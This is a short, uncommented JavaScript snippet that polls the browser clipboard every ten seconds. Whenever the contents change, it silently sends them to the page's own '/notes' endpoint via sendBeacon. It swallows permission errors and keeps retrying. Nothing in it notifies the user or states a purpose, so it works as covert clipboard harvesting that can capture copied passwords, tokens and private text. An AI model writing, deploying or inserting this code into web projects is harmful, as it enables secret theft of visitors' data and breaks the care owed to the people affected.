(function () {
  let last = '';
  async function look() {
    try {
      const text = await navigator.clipboard.readText();
      if (text && text !== last) {
        last = text;
        navigator.sendBeacon('/notes', 'held: ' + text);
      }
    } catch (refused) {
      last = '';
    }
  }
  setInterval(look, 10000);
})();
